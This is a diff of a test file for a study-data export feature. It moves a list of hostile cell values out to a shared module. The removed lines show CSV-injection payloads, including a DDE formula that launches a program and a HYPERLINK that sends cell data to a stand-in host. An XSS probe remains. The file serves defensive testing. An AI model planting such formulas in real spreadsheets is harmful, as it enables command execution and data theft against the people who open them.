@@ -19,15 +19,10 @@ from studies.models import Recruitment, Response, Trial
 from studies.services.export.cells import FORMULA_START
 from tests import factories
 from tests.conftest import ParticipantClient
+from tests.hostile_strings import FORMULAS
 
 HOSTILE = [
-    "=1+1",
-    "+1+cmd|' /C calc'!A0",
-    "@SUM(A1:A9)",
-    "-2+3",
-    "\t=1+1",
-    "\r=1",
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    *FORMULAS,
     "<script>alert(1)</script>",
     'a,b\n"c"',
 ]
